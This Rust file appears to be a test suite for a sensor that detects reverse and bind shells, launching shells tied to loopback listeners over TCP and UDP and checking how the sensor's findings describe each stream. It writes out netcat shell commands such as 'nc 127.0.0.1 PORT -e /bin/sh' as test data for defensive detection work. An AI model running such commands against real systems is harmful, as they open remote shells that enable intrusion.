//! Each transport, each direction, each kind of stream beside the socket.

use std::net::SocketAddr;

use anyhow::{Context, Result, ensure};
use sensor_tests::{
    deadline::wait_for,
    lab::{BIND, INPUT, LOOP, Lab, REVERSE},
    peer::{Listener, V4, V6, call, free_port},
    process::Proc,
};

use super::{Case, Session, start, taken};

pub const CASES: &[Case] = &[
    ("streams::tcp4_nc_e", |lab| {
        let listener = Listener::tcp(V4)?;
        let port = listener.port()?.to_string();
        taken(
            lab,
            &listener,
            REVERSE,
            &["/bin/busybox", "nc", "127.0.0.1", &port, "-e", "/bin/sh"],
        )
    }),
    ("streams::tcp4_dup2", |lab| {
        connect(lab, &Listener::tcp(V4)?, "tcp", "127.0.0.1")
    }),
    ("streams::tcp6_nc_e", |lab| {
        let listener = Listener::tcp(V6)?;
        let port = listener.port()?.to_string();
        taken(
            lab,
            &listener,
            REVERSE,
            &["/bin/busybox", "nc", "::1", &port, "-e", "/bin/sh"],
        )
    }),
    ("streams::tcp6_dup2", |lab| {
        connect(lab, &Listener::tcp(V6)?, "tcp", "[::1]")
    }),
    ("streams::tcp4_mapped_in_tcp6", |lab| {
        connect(lab, &Listener::tcp(V4)?, "tcp", "[::ffff:127.0.0.1]")
    }),
    ("streams::udp4", |lab| {
        connect(lab, &Listener::udp(V4)?, "udp", "127.0.0.1")
    }),
    ("streams::udp6", |lab| connect(lab, &Listener::udp(V6)?, "udp", "[::1]")),
    ("streams::accepted_nc_e", |lab| {
        let port = free_port(V4)?;
        start(
            lab,
            &[
                "/bin/busybox",
                "nc",
                "-l",
                "-p",
                &port.to_string(),
                "127.0.0.1",
                "-e",
                "/bin/sh",
            ],
        )?;
        Session::of(lab, call(SocketAddr::new(V4, port))?, BIND)?.exit(lab)?;
        Ok(())
    }),
    ("streams::accepted_tcp6", |lab| {
        let address = SocketAddr::new(V6, free_port(V6)?);
        start(lab, &["listen", &address.to_string(), "/bin/sh"])?;
        Session::of(lab, call(address)?, BIND)?.exit(lab)?;
        Ok(())
    }),
    ("streams::input_beside_a_file_and_nothing", |lab| {
        input(lab, "src", ["socket", "file", "closed"])
    }),
    ("streams::input_beside_pipe_and_fifo", |lab| {
        input(lab, "spf", ["socket", "pipe", "fifo"])
    }),
    ("streams::input_beside_terminal_and_unix", |lab| {
        input(lab, "stu", ["socket", "terminal", "unix socket"])
    }),
    ("streams::input_beside_null", |lab| {
        input(lab, "snn", ["socket", "other", "other"])
    }),
    ("streams::output_of_a_loop", output_of_a_loop),
];

/// A shell that has its connection to `listener` for all streams is reported as what it is.
pub fn connect(lab: &Lab<'_>, listener: &Listener, transport: &str, ip: &str) -> Result<()> {
    let address = format!("{ip}:{}", listener.port()?);
    taken(lab, listener, REVERSE, &[transport, &address, "sss", "/bin/sh"])
}

/// A shell whose input alone is the peer's; the finding has to name what the other streams are.
fn input(lab: &Lab<'_>, letters: &str, kinds: [&str; 3]) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    let address = format!("127.0.0.1:{}", listener.port()?);
    start(lab, &["tcp", &address, letters, "/bin/sh"])?;
    let mut peer = listener.accept()?;
    peer.send("(id; echo pid=$$.) >part && mv part proof\n")?;
    let proof = wait_for("the proof that a command was executed", || {
        Ok(std::fs::read_to_string(lab.path("proof")).ok())
    })?;
    let pid = proof
        .split("pid=")
        .nth(1)
        .and_then(|rest| rest.split('.').next()?.parse().ok());
    let shell = Proc::of(pid.context("no process id")?)?;
    let finding = lab.finding(peer.ends(), INPUT)?;
    lab.same(&finding, &shell)?;
    let streams = finding.property("streams").and_then(serde_json::Value::as_array);
    let said: Vec<&str> = streams
        .into_iter()
        .flatten()
        .filter_map(|stream| stream.get("kind")?.as_str())
        .collect();
    ensure!(
        said == kinds,
        "the streams are {kinds:?}, and the finding says {said:?}"
    );
    peer.send("exit\n")?;
    lab.ended(&finding)?;
    Ok(())
}

fn output_of_a_loop(lab: &Lab<'_>) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    start(lab, &["loop", &format!("127.0.0.1:{}", listener.port()?)])?;
    let mut peer = listener.accept()?;
    // By its path: busybox's shell would run its own `id` without executing anything.
    let mut id = || -> Result<()> {
        peer.send("/bin/id\n")?;
        peer.read_until("uid=")?;
        Ok(())
    };
    id()?;
    id()?;
    let finding = lab.finding(peer.ends(), LOOP)?;
    drop(peer);
    let last = lab.ended(&finding)?;
    let count = last.number("commandCount")?;
    ensure!(count == 2, "two commands, and the finding counts {count}: {last}");
    Ok(())
}
